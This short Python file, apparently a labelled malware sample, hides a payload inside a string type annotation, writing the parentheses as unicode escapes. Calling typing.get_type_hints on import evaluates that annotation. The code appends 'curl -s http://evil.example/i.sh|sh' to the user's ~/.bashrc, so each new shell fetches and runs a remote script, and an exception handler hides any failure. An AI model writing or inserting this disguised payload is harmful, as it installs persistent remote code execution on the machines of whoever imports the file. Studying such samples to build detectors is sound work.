# harm: appends curl|sh to ~/.bashrc ; trick: parentheses in the string annotation spelled as \u0028/\u0029 escapes
import typing


def handler(x: "open\u0028__import__\u0028'os'\u0029.path.expanduser\u0028'~/.bashrc'\u0029,'a'\u0029.write\u0028chr\u002810\u0029+'curl -s http://evil.example/i.sh|sh'+chr\u002810\u0029\u0029") -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
